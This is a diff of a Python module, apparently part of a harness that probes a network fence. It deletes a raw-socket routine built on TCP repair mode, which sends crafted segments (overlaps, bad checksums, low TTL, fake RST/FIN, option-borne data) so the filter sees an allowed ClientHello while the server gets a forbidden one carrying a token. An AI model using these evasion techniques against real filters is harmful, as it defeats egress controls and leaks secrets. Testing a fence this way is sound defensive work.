@@ -1,4 +1,4 @@
-"""Attacks below the level of a connection: crafted segments, odd sockets, headers and marks. Called by attack.py."""
+"""Attacks below the level of a connection: odd sockets, headers and marks."""
 import ctypes
 import errno
 import os
@@ -8,115 +8,7 @@ import struct
 import time
 
 import wire
-from attempts import SO_MARK, TCP_QUEUE_SEQ, TCP_REPAIR, TCP_REPAIR_QUEUE, attempt, drain, family, hexes, make_hello, tcp
-
-# ---- crafted segments: root, without the sandbox -------------------------------------------------
-
-class Flow:
-    """A connection made by the kernel, into which segments are put by hand."""
-
-    def __init__(self, to, port):
-        self.s = tcp(to, port)
-        self.src, self.sport = self.s.getsockname()[:2]
-        self.dst, self.dport = to, port
-        self.s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
-        seqs = []
-        for queue in (2, 1):  # send, receive
-            self.s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
-            seqs.append(self.s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff)
-        self.seq, self.ack = seqs
-        # Left in repair: the kernel's own stack stays silent about this connection.
-        self.ts = b""
-        v6 = ":" in to
-        self.raw = socket.socket(family(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
-        self.v6 = v6
-
-    def send(self, offset, payload=b"", flags=wire.ACK | wire.PSH, ttl=64, **kw):
-        seg = wire.tcp(self.src, self.dst, self.sport, self.dport, self.seq + offset, self.ack, flags,
-                       payload, **kw)
-        pkt = (wire.ipv6(self.src, self.dst, 6, seg, hops=ttl) if self.v6 else
-               wire.ipv4(self.src, self.dst, 6, seg, ttl=ttl))
-        attempt(lambda: self.raw.sendto(pkt, (self.dst, 0)))
-
-
-def crafted(a):
-    """One way (a["how"]) to show the fence another stream than the server gets. good: a hello with the
-    allowed name; bad: the one with the token."""
-    f = Flow(a["to"], a["port"])
-    good = wire.client_hello(a["sni"])
-    bad = wire.client_hello(a["evil"], a["token"].encode())
-    size = max(len(good), len(bad))
-    how = a["how"]
-    cut = len(bad) // 2
-    if how == "plain":
-        f.send(0, bad)
-    elif how == "good":
-        f.send(0, wire.client_hello(a["sni"], a["token"].encode()))
-    elif how == "reversed":
-        for at in reversed(range(0, len(bad), 50)):
-            f.send(at, bad[at:at + 50])
-    elif how == "overlap, good first":  # whose bytes count?
-        f.send(cut, good[cut:])
-        f.send(cut, bad[cut:])
-        f.send(0, bad[:cut])
-    elif how == "overlap, bad first":
-        f.send(cut, bad[cut:])
-        f.send(cut, good[cut:])
-        f.send(0, good[:cut])
-        f.send(0, bad[:cut])
-    elif how == "same seq twice":
-        f.send(1, bad[1:])
-        f.send(1, good[1:])
-        f.send(0, good[:1])
-    elif how == "bad checksum":
-        f.send(0, good, bad=True)
-        time.sleep(0.1)
-        f.send(0, bad)
-    elif how == "low ttl":
-        f.send(0, good, ttl=1)
-        time.sleep(0.1)
-        f.send(0, bad)
-    elif how == "wrong seq":
-        f.send(100000000, good)
-        time.sleep(0.1)
-        f.send(0, bad)
-    elif how == "before the window":
-        f.send(-len(good), good)
-        time.sleep(0.1)
-        f.send(0, bad)
-    elif how == "ahead in the window":
-        f.send(5000, good)
-        time.sleep(0.1)
-        f.send(0, bad)
-    elif how == "fake rst":
-        f.send(50000, b"", wire.RST)
-        f.send(0, bad)
-    elif how == "fake fin":
-        f.send(0, b"", wire.FIN | wire.ACK)
-        f.send(0, bad)
-    elif how == "fin with data":
-        f.send(0, bad, wire.FIN | wire.ACK | wire.PSH)
-    elif how == "rst with data":
-        f.send(0, bad, wire.RST | wire.ACK)
-    elif how == "syn with data":
-        f.send(-1, bad, wire.SYN)
-    elif how == "no flags":
-        f.send(0, bad, 0)
-    elif how == "no ack":
-        f.send(0, bad, wire.PSH)
-    elif how == "urgent":
-        f.send(0, bad, wire.ACK | wire.PSH | wire.URG, urg=5)
-    elif how == "keepalive byte":  # one byte at seq - 1: a keep-alive with data
-        for i, b in enumerate(a["token"].encode()):
-            f.send(-1, bytes([b]), wire.ACK)
-    elif how == "in options":
-        tok = a["token"].encode()
-        f.send(0, b"", wire.ACK, options=(b"\xfd" + bytes([len(tok) + 2]) + tok).ljust(24, b"\1"))
-    else:
-        raise SystemExit("no such way: " + how)
-    time.sleep(a.get("wait", 0.3))
-    os._exit_later = f  # keep the socket: its close would send
-    return {"sent": size}
+from attempts import SO_MARK, attempt, family, hexes, make_hello, tcp
 
 
 def proto_socket(a):
